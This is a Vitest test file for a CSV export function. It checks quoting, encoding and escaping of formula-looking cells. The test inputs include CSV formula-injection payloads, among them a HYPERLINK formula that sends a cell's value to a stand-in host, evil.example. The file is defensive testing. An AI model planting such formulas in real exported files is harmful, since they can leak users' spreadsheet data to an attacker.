import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toCsv } from './csv';

describe('toCsv', () => {
  const tricky = [
    ['comma, inside', 'a "quoted" word', 'line one\nline two'],
    ['=HYPERLINK("http://x")', '+1', '-2'],
    ['@SUM(A1)', 'Número ½ — déjà vu ✓', 'plain'],
  ];
  const csv = toCsv(['a', 'b', 'c'], tricky);

  it('starts with a UTF-8 BOM and ends rows with CRLF', () => {
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.endsWith('\r\n')).toBe(true);
  });
  it('quotes commas, quotes and newlines so they parse back exactly', () => {
    const parsed = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data;
    expect(parsed[0]).toEqual(['a', 'b', 'c']);
    expect(parsed[1]).toEqual(tricky[0]);
    expect(parsed[3]![1]).toBe('Número ½ — déjà vu ✓');
  });
  it('guards formula-looking cells', () => {
    const parsed = Papa.parse<string[]>(csv.slice(1), { skipEmptyLines: true }).data;
    expect(parsed[2]).toEqual(['\'=HYPERLINK("http://x")', "'+1", "'-2"]);
    expect(parsed[3]![0]).toBe("'@SUM(A1)");
  });
  it.each(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'])(
    'guards a cell led by %j even when a line break follows (the break must not hide the formula)',
    (lead) => {
      for (const tail of ['\n', '\r', '\r\n', '\u2028', '\nmore']) {
        const cell = `${lead}HYPERLINK("http://evil.example/?leak="&A1,"Click")${tail}`;
        const parsed = Papa.parse<string[]>(toCsv(['x'], [[cell]]).slice(1), { skipEmptyLines: true }).data;
        expect(parsed[1]![0]).toBe(`'${cell}`);
      }
    },
  );
  it('writes null as an empty cell', () => {
    expect(toCsv(['x'], [[null]])).toBe('\uFEFFx\r\n\r\n');
  });
});
